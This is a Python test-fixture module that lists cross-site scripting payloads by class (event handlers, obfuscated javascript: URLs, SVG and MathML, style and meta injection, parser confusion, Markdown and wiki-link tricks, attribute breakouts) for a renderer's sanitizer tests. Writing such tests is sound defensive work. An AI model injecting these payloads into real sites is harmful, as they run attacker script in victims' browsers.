"""Cross-site scripting payloads, by class, written for this project's tests.

Every payload tries to call ``alert`` (or ``confirm``/``prompt``/``print``) when it runs,
so a browser test only has to watch for dialogs. The classes follow the well-known ones:
script and event-handler tags, dangerous URL schemes (plain, mixed case, entity- and
whitespace-obfuscated) in Markdown and raw HTML, SVG and MathML, style, ``<base>`` and
``<meta>`` injection, broken comments and parser confusion, Markdown link titles and
reference links, wiki-link labels, and attribute breakouts for values shown in attributes.
"""

from __future__ import annotations

SCRIPT_AND_HANDLERS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//xss.invalid/x.js></SCRIPT>",
    "<script>alert`1`</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<body onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<div onmouseover=alert(1) style=position:fixed;inset:0>x</div>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    '<form><button formaction="javascript:alert(1)">x</button></form>',
    "<isindex action=javascript:alert(1) type=image>",
]

URL_SCHEMES = [
    "[clic](javascript:alert(1))",
    "[clic](JaVaScRiPt:alert(1))",
    "[clic](&#106;avascript:alert(1))",
    "[clic](&#x6A;avascript&#x3A;alert(1))",
    "[clic](java\tscript:alert(1))",
    "[clic]( javascript:alert(1))",
    "[clic](vbscript:msgbox(1))",
    "[clic](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![img](javascript:alert(1))",
    "![img](data:image/svg+xml,<svg onload=alert(1)>)",
    '<a href="javascript:alert(1)">clic</a>',
    '<a href="  javascript:alert(1)">clic</a>',
    '<a href="jav&#x09;ascript:alert(1)">clic</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114'
    '&#0000105&#0000112&#0000116&#0000058alert(1)">clic</a>',
    '<img src="javascript:alert(1)">',
    "<a href=data:text/html,<script>alert(1)</script>>clic</a>",
    '<https://example.org/" onmouseover="alert(1)>',
    'www.example.org/"onmouseover=alert(1)//',
]

SVG_AND_MATHML = [
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">x</math>',
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'>",
]

STYLE_BASE_META = [
    "<style>@import 'javascript:alert(1)';</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="width:expression(alert(1))">x</div>',
    '<base href="javascript:alert(1)//">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel=import href="data:text/html,<script>alert(1)</script>">',
]

PARSER_CONFUSION = [
    "<!--<script>alert(1)//--><script>alert(1)</script>",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<title></title><img src=x onerror=alert(1)>",
    '<p title="</p><img src=x onerror=alert(1)>">x</p>',
    "`<img src=x onerror=alert(1)>`",
    "```\n</code></pre><img src=x onerror=alert(1)>\n```",
]

MARKDOWN_TRICKS = [
    '[clic](https://example.org "x\\" onmouseover=\\"alert(1)")',
    "[clic][ref]\n\n[ref]: javascript:alert(1)",
    '[clic][ref]\n\n[ref]: https://example.org "titre" onmouseover=alert(1)',
    '![x](https://example.org/x.png"onerror="alert(1))',
    "[[page|<img src=x onerror=alert(1)>]]",
    "[[<script>alert(1)</script>]]",
    "[[javascript:alert(1)]]",
    "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
]

ATTRIBUTE_BREAKOUTS = [
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    '" autofocus onfocus="alert(1)',
    "{{7*7}}<img src=x onerror=alert(1)>",
]

PAYLOADS = (
    SCRIPT_AND_HANDLERS
    + URL_SCHEMES
    + SVG_AND_MATHML
    + STYLE_BASE_META
    + PARSER_CONFUSION
    + MARKDOWN_TRICKS
    + ATTRIBUTE_BREAKOUTS
)
